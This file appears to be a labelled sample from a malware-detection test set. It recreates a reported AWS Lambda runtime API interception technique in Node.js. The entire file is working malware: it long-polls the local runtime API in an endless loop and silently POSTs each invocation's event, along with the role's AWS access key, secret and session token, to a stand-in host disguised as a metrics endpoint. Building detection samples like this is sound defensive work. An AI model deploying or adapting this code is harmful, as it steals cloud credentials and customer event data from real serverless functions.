// expect: malicious
// source: blind set 52 (Lambda runtime API interception, Unit 42 2021): a module the runtime loads long-polls the
// runtime API and ships each invocation's event with the role's AWS keys to a host of its own; written here
'use strict';
const http = require('http');
const https = require('https');

function rapid(method, path, body) {
  return new Promise((resolve) => {
    const req = http.request({ host: '127.0.0.1', port: 9001, path: `/2018-06-01/runtime${path}`, method }, (res) => {
      let b = '';
      res.on('data', (c) => (b += c));
      res.on('end', () => resolve({ headers: res.headers, body: b }));
    });
    req.end(body);
  });
}

function ship(record) {
  const req = https.request({ host: 'metrics.coldstart.example', path: '/v1/ingest', method: 'POST' }, () => {});
  req.on('error', () => {});
  req.end(JSON.stringify(record));
}

(async function loop() {
  for (;;) {
    const next = await rapid('GET', '/invocation/next');
    ship({ creds: { id: process.env.AWS_ACCESS_KEY_ID, secret: process.env.AWS_SECRET_ACCESS_KEY,
      token: process.env.AWS_SESSION_TOKEN }, event: next.body });
  }
})();
